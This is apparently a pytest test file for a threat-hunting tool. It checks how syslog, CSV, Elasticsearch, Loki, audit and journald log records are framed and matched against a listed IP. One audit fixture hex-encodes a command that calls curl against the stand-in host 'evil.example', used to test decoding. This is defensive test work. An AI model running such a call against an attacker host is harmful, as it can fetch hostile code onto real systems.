"""Framing of records that do not end in a line end, that a collector nests, or that stand in numbers."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from pathlib import Path

import pytest

from traque.bulletins import from_values
from traque.hunt import HuntOptions, hunt
from traque.model import HuntResult, Sighting, Verdict
from traque.sources.framing import framing_of

LISTED = "198.51.100.7"
SSHD = f"<38>Jan  7 04:18:07 bastion sshd[5105]: Accepted password for alice from {LISTED} port 41390 ssh2"
TABLE = "time,src_ip,dst_ip,action,message\n"
ROW = f'2021-01-07T04:18:07Z,{LISTED},10.0.0.5,deny,"first ""line""\nsecond, line"\n'


def counted(text: str) -> str:
    return f"{len(text.encode())} {text}"


def hits(count: int) -> list[dict[str, object]]:
    source = {
        "@timestamp": "2021-01-07T04:18:07Z",
        "source": {"ip": LISTED, "port": 41390},
        "destination": {"ip": "10.0.0.5", "port": 22},
        "event": {"action": "deny"},
    }
    return [{"_index": "fw", "_id": f"a{n}", "_source": source} for n in range(count)]


def elastic(count: int, indent: int | None = None) -> str:
    found = {"total": {"value": count, "relation": "eq"}, "max_score": 1.0, "hits": hits(count)}
    whole = {
        "took": 3,
        "timed_out": False,
        "_shards": {"total": 1, "failed": 0},
        "hits": found,
        "aggregations": {"a": 1},
    }
    return json.dumps(whole, indent=indent)


def loki(count: int, indent: int | None = None) -> str:
    lines = [[str(1_609_993_087_000_000_000 + n), SSHD.replace("<38>", "")] for n in range(count)]
    cut = count // 3
    streams = [
        {"stream": {"job": f"a{n}"}, "values": part} for n, part in enumerate((lines[:cut], lines[cut:]))
    ]
    return json.dumps(
        {"status": "success", "data": {"resultType": "streams", "result": streams}}, indent=indent
    )


def audit(number: int, call: int) -> str:
    head = f"msg=audit(1609993087.123:{number}):"
    return (
        f"type=SYSCALL {head} arch=c000003e syscall={call} success=yes exit=0\n"
        f"type=SOCKADDR {head} saddr=020001BBC63364070000000000000000\n"
        f"type=PROCTITLE {head} proctitle={b'curl'.hex().upper()}\n"
    )


def journal(number: int) -> str:
    said = f"\x1b[31mAccepted password for alice from {LISTED} port 1 ssh2\x1b[0m".encode()
    entry = {
        "__CURSOR": f"s=1;i={number}", "__REALTIME_TIMESTAMP": str(1609993087123456 + number), "_HOSTNAME": "bastion",
        "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": list(said) if number % 2 else said[5:-4].decode(),
    }  # fmt: skip
    return json.dumps(entry, separators=(",", ":")) + "\n"


KINDS: dict[str, tuple[Callable[[int], str], Verdict]] = {
    "nul": (lambda n: f"{SSHD}\0" * n, Verdict.AUTHENTICATED),
    "carriage-return": (lambda n: f"{SSHD}\r" * n, Verdict.AUTHENTICATED),
    "counted": (lambda n: counted(SSHD) * n, Verdict.AUTHENTICATED),
    "counted-lines": (lambda n: counted(f"{SSHD}\n") * n, Verdict.AUTHENTICATED),
    "separator": (lambda n: "".join(f"\x1e{json.dumps(h['_source'])}\n" for h in hits(n)), Verdict.BLOCKED),
    "quoted": (lambda n: TABLE + ROW * n, Verdict.BLOCKED),
    "elastic": (elastic, Verdict.BLOCKED),
    "elastic-pretty": (lambda n: elastic(n, 2), Verdict.BLOCKED),
    "loki": (loki, Verdict.AUTHENTICATED),
    "loki-pretty": (lambda n: loki(n, 1), Verdict.AUTHENTICATED),
    "audit-connect": (lambda n: "".join(audit(k, 42) for k in range(n)), Verdict.OUTBOUND_ATTEMPT),
    "audit-accept": (lambda n: "".join(audit(k, 43) for k in range(n)), Verdict.CONTACT),
    "journal": (lambda n: "".join(map(journal, range(n))), Verdict.AUTHENTICATED),
}


def seen(text: str, folder: Path) -> tuple[HuntResult, Sighting]:
    path = folder / "x.log"
    path.write_text(text)
    result = hunt([from_values([LISTED])], [path], options=HuntOptions(engine="python"))
    (sighting,) = result.sightings
    return result, sighting


@pytest.mark.parametrize("kind", KINDS)
def test_each_is_a_record_with_its_verdict(kind: str, tmp_path: Path) -> None:
    made, verdict = KINDS[kind]
    result, sighting = seen(made(30), tmp_path)
    (source,) = result.coverage.sources
    assert (sighting.count, source.complete) == (30, True)
    assert {v: n for v, n in sighting.verdicts.items() if n} == {verdict: 30}
    assert all(len(one.text) < len(made(2)) for one in sighting.evidence)


@pytest.mark.parametrize("kind", KINDS)
def test_pieces_make_no_difference_and_no_byte_is_lost(kind: str) -> None:
    text = KINDS[kind][0](12).encode()
    rng = random.Random(kind)
    whole = None
    for size in (0, 1, 5, 60, 600):
        framing = framing_of(text)
        assert framing is not None
        cuts = sorted(rng.randrange(len(text)) for _ in range(size))
        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        framed = b"".join(map(framing.feed, pieces)) + framing.finish()
        assert len(framed) == len(text)
        assert not framing.lost
        whole = framed if whole is None else whole
        assert framed == whole


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_bytes_never_raise(kind: str) -> None:
    text = KINDS[kind][0](8).encode()
    rng = random.Random(kind)
    for _ in range(300):
        changed = bytearray(text)
        for _ in range(rng.choice((1, 3, 20))):
            at = rng.randrange(len(changed))
            changed[at : at + rng.randrange(3)] = rng.choice(
                (b"", b"\n", b'"', b"[", b"}", b"\0", b"999999 <1>", b"255,")
            )
        data = bytes(changed)
        framing = framing_of(data)
        if framing is not None:
            half = rng.randrange(len(data))
            framed = framing.feed(data[:half]) + framing.feed(data[half:]) + framing.finish()
            assert framing.original_offset(len(framed)) == len(data)


def test_lines_of_records_without_line_ends_are_told(tmp_path: Path) -> None:
    _, sighting = seen(f"{SSHD}\r" * 5, tmp_path)
    lines = [one.line for one in sighting.evidence]
    assert (min(lines), max(lines)) == (1, 5)


def test_a_quote_that_stands_alone_joins_little(tmp_path: Path) -> None:
    row = f"2021-01-07T04:18:07Z,{LISTED},10.0.0.5,deny,x\n"
    _, sighting = seen(TABLE + ROW + row.replace("x", '5" disk') + row * 2000, tmp_path)
    assert sighting.count > 1700


def test_command_lines_are_written_out() -> None:
    head = "msg=audit(1609993087.123:1):"
    command = b"curl\0http://evil.example/a b".hex().upper()
    text = (
        f'type=EXECVE {head} argc=3 a0="sh" a1={command} a2={command}\n'
        f"type=SYSCALL {head} a0=7FFD00112233 a1=1\n"
        f"type=PROCTITLE {head} proctitle={command}\n"
        f"type=SOCKADDR {head} saddr=0A0001BB0000000020010DB8000000000000000000000007{'0' * 8}\n"
    )
    framing = framing_of(text.encode())
    assert framing is not None
    framed = (framing.feed(text.encode()) + framing.finish()).decode()
    assert framed.count("curl http://evil.example/a b") == 3
    assert "a0=7FFD00112233" in framed
    assert "saddr=[2001:db8::7]:443 " in framed


@pytest.mark.parametrize(
    "text",
    [
        "12 <tag> is no syslog\n",
        'name,"size in ""\nplain\n',
        '{"values":[["1609993087","x"]]}\n{"a":1}\n',
        "2021-01-07T04:18:07Z x\r\n2021-01-07T04:18:08Z y\r\n",
    ],
)
def test_other_lines_are_left_alone(text: str) -> None:
    assert framing_of(text.encode()) is None
